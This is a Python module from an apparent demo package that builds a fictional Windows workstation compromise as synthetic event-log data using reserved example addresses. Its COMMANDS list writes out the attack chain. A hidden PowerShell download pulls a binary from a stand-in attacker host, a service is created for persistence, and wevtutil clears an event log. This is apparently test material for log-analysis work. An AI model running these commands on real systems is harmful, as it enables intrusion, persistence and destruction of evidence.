"""Who and what the story is about, when it happens, and how a workstation logs it.

Names, addresses and hashes are invented: example.org (RFC 2606), 192.0.2.0/24 and 203.0.113.0/24
(RFC 5737). GUIDs of providers are those of Windows.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, Final
from uuid import UUID

from casparian.demo.dice import Dice
from casparian.demo.evtx_writer import Event, Instance, System, to_filetime, windows_event

WORKSTATION: Final = "FIN-WS07.corp.example.org"
GATEWAY: Final = "gw01"
ATTACKER_ADDRESS: Final = "203.0.113.45"
WORKSTATION_ADDRESS: Final = "192.0.2.77"
SERVICE_NAME: Final = "Kestrel Update"
SERVICE_FILE: Final = r"C:\ProgramData\Kestrel\kestrelsvc.exe"
VICTIM: Final = "t.bergman"

DAY: Final = datetime(2024, 3, 11, tzinfo=UTC)
EVENING: Final = DAY + timedelta(hours=18)
DOMAIN: Final = "CORP"
DOMAIN_SID: Final = "S-1-5-21-1085031214-1563985344-725345543"
SYSTEM_SID: Final = "S-1-5-18"
PEOPLE: Final = (("ines.marlow", 1104), (VICTIM, 1117), ("o.quist", 1123), ("r.adeyemi", 1131))
PROGRAMS: Final = (
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p"),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Program Files\Larkspur\larkspur.exe", r'"larkspur.exe" --tray'),
    (r"C:\Windows\System32\conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
)
NAMES: Final = ("time.example.org", "mail.example.org", "updates.example.org", "bücher.example")
SECURITY_GUID: Final = UUID("54849625-5478-4994-a5ba-3e3b0328c30d")
COMMANDS: Final = (
    ("22:06:02", r"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami /all"),
    ("22:07:11", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     f"powershell -nop -w hidden -c iwr https://{ATTACKER_ADDRESS}/k -OutFile {SERVICE_FILE}"),
    ("22:09:02", r"C:\Windows\System32\sc.exe",
     f'sc create "{SERVICE_NAME}" binPath= {SERVICE_FILE} start= auto'),
    ("22:33:46", r"C:\Windows\System32\wevtutil.exe",
     "wevtutil cl Microsoft-Windows-TaskScheduler/Operational"),
)  # fmt: skip


def at(clock: str, *, milliseconds: int = 0) -> datetime:
    """A time of the day of the story, from `hh:mm:ss`."""
    hours, minutes, seconds = map(int, clock.split(":"))
    return DAY + timedelta(hours=hours, minutes=minutes, seconds=seconds, milliseconds=milliseconds)


@dataclass(frozen=True, slots=True)
class Happening:
    """What a log will hold: a time, and how to make the event once its record id is known."""

    time: datetime
    build: Callable[[int, int], Event]  # record id, FILETIME


def write(happenings: list[Happening], dice: Dice, *, first_id: int) -> list[Event]:
    """Number happenings in order of time; the 100 ns digit is never lost on the way."""
    ordered = sorted(happenings, key=lambda item: item.time)
    return [
        item.build(first_id + index, to_filetime(item.time, ticks=dice.below(10)))
        for index, item in enumerate(ordered)
    ]


def noise_times(dice: Dice, count: int) -> list[datetime]:
    """Moments over six hours of the evening, to the microsecond."""
    return [EVENING + timedelta(microseconds=dice.below(6 * 3600 * 10**6)) for _ in range(count)]


def happening(time: datetime, payload: Instance | None, **system: Any) -> Happening:
    """An event of a manifest provider on the workstation."""

    def build(record_id: int, ticks: int) -> Event:
        return windows_event(
            System(time_created=ticks, event_record_id=record_id, computer=WORKSTATION, **system),
            payload,
            written=ticks + 15_625,  # the service writes a moment after the provider spoke
        )

    return Happening(time, build)
